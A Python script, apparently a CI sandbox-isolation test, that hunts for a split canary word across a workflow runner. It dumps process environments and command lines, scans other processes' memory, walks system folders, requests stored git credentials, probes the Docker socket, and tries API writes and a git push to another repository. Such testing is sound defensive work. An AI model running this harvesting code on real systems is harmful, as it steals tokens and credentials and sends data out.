"""A hostile job: looks for secrets of the workflow wherever a process of its user can look.

    hunt.py FOLDER

Prints `FOUND` with each place, and writes all that it saw into FOLDER. Every secret holds one word,
which stands nowhere in this file.
"""

import base64
import os
import re
import socket
import subprocess
import sys
import urllib.error
import urllib.request

WORD = "can" + "ary4" + "secrets"
WALKED = ("/github", "/home", "/root", "/tmp", "/var", "/run", "/etc", "/opt", "/mnt", "/dev/shm", "/srv")
LARGEST = 64 << 20


def forms(word):
    """A word as it stands, and as it stands within something in base64 or hex."""
    found = {word.encode(), word.encode().hex().encode()}
    for before in range(3):
        coded = base64.b64encode(b"x" * before + word.encode())
        found.add(coded[-(-before * 4 // 3):(before + len(word)) * 4 // 3])
    return found


ANY = re.compile(b"|".join(map(re.escape, sorted(forms(WORD)))))


class Hunt:
    def __init__(self, folder):
        os.makedirs(folder, exist_ok=True)
        self.folder, self.seen = os.path.realpath(folder), open(os.path.join(folder, "seen.txt"), "ab")

    def look(self, place, data, keep=True):
        if ANY.search(data):
            print("FOUND", place, flush=True)
        if keep:
            self.seen.write(f"== {place}\n".encode() + data.replace(b"\0", b"\n") + b"\n")

    def processes(self):
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for name in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{pid}/{name}", "rb") as file:
                        self.look(f"/proc/{pid}/{name}", file.read())
                except OSError:
                    pass
            if int(pid) != os.getpid():
                self.memory(pid)

    def memory(self, pid):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    span, rights = line.split()[:2]
                    start, end = (int(part, 16) for part in span.split("-"))
                    if "r" in rights and end - start < LARGEST:
                        try:
                            memory.seek(start)
                            self.look(f"memory of {pid}", memory.read(end - start), keep=False)
                        except (OSError, ValueError, OverflowError):
                            pass
        except OSError:
            pass

    def files(self):
        for top in (*WALKED, os.path.abspath("."), os.environ.get("HOME", "/")):
            for folder, _, names in os.walk(top):
                if os.path.realpath(folder).startswith(self.folder):
                    continue
                for path in (os.path.join(folder, name) for name in names):
                    try:
                        if os.path.isfile(path) and os.path.getsize(path) < LARGEST:
                            with open(path, "rb") as file:
                                self.look(path, file.read(), keep=False)
                    except OSError:
                        pass

    def git(self):
        for command in (["config", "--list", "--show-origin"], ["remote", "-v"], ["log", "--all", "-n", "5"]):
            done = subprocess.run(["git", *command], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            self.look(f"git {command[0]}", done.stdout)
        asked = os.environ.get("GITHUB_SERVER_URL", "").replace("://", "\nhost=")
        done = subprocess.run(["git", "credential", "fill"], input=f"protocol={asked}\n\n".encode(),
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                              env={**os.environ, "GIT_TERMINAL_PROMPT": "0", "GIT_ASKPASS": "/bin/false"})
        self.look("git credential", done.stdout)

    def docker(self):
        try:
            engine = socket.socket(socket.AF_UNIX)
            engine.connect("/var/run/docker.sock")
            print("FOUND docker socket", flush=True)
        except OSError:
            pass

    def network(self):
        """The network is there, and opens nothing."""
        api = os.environ.get("GITHUB_API_URL", "")
        repository = f"{api}/repos/{os.environ.get('GITHUB_REPOSITORY')}"
        for path, body in (("pulls/7", None), ("issues/7/comments", b'{"body": "mine"}'), ("statuses/" + "1" * 40, b"{}")):
            request = urllib.request.Request(f"{repository}/{path}", body, {"User-Agent": "hunt"})
            try:
                with urllib.request.urlopen(request) as answer:
                    print("NETWORK", path, answer.status, flush=True)
            except urllib.error.HTTPError as error:
                print("NETWORK", path, error.code, flush=True)
        results = f"{os.environ.get('GITHUB_SERVER_URL')}/octo-org/comment"
        done = subprocess.run(["git", "push", results, "HEAD:refs/heads/results"], stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
        print("PUSH", done.returncode, flush=True)


if __name__ == "__main__":
    hunt = Hunt(sys.argv[1])
    hunt.look("environment", "\n".join(f"{name}={value}" for name, value in os.environ.items()).encode())
    hunt.processes()
    hunt.files()
    hunt.git()
    hunt.docker()
    hunt.network()
    hunt.seen.close()
    print("hunted", flush=True)
